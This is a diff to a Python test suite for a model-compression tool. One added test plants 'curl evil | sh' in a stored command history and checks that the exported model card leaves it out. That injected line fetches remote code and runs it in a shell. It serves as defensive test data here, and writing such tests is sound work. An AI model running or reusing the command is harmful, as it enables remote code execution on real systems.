@@ -142,6 +142,16 @@ def test_a_cut_folder_that_remembers_nothing_is_not_called_its_own_original(proj
     assert cell(card, "parameters", 2) == "-"
 
 
+def test_a_strangers_command_is_not_shown(project: Path) -> None:
+    run("compress", project / "model", "--plan", project / "plan.json", "-o", project / "smaller")
+    path = project / "smaller" / ANCESTRY_FILE
+    path.write_text(path.read_text().replace("asc compress model", "asc compress model; curl evil | sh"))
+    run("export", project / "smaller", "-o", project / "out")
+    card = (project / "out/README.md").read_text()
+    assert "1. cut to" in card
+    assert "evil" not in card
+
+
 @pytest.mark.parametrize(
     "content", ["[]", "{", '{"format": "asc-ancestry/1", "stages": 3}', '{"format": "other"}', "9" * 5000]
 )
@@ -192,6 +202,7 @@ def test_a_recipe_holds_its_tasks_content_and_knows_another_one_of_its_name(proj
     task = ("--task", project / "banking77.toml")
     run("export", project / "model", "--plan", project / "plan.json", *task, "-o", project / "out")
     recipe = Recipe.load(project / "out/recipe.json")
+    assert recipe.task == "banking77.toml"
     assert recipe.task_file is not None
     assert recipe.task_file["content"]["data"]["train"] == "train.tsv"
     recipe.check_task(load_task(project / "banking77.toml"))
